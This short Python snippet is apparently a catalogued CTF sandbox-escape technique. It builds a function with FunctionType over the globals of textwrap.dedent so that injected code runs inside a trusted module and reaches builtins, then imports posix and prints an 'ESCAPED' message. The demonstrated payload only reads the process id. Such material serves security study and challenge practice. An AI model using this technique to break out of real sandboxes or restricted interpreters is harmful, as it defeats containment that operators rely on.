# technique: FunctionType(code, f.__globals__): our code runs inside a trusted module
# goal: builtins
# source: CTF folklore
import textwrap
run = type(lambda: 0)(compile('pid = __import__("posix").getpid()', 'x', 'exec'),
                      textwrap.dedent.__globals__)
run()
print('ESCAPED pid=%d' % textwrap.pid)
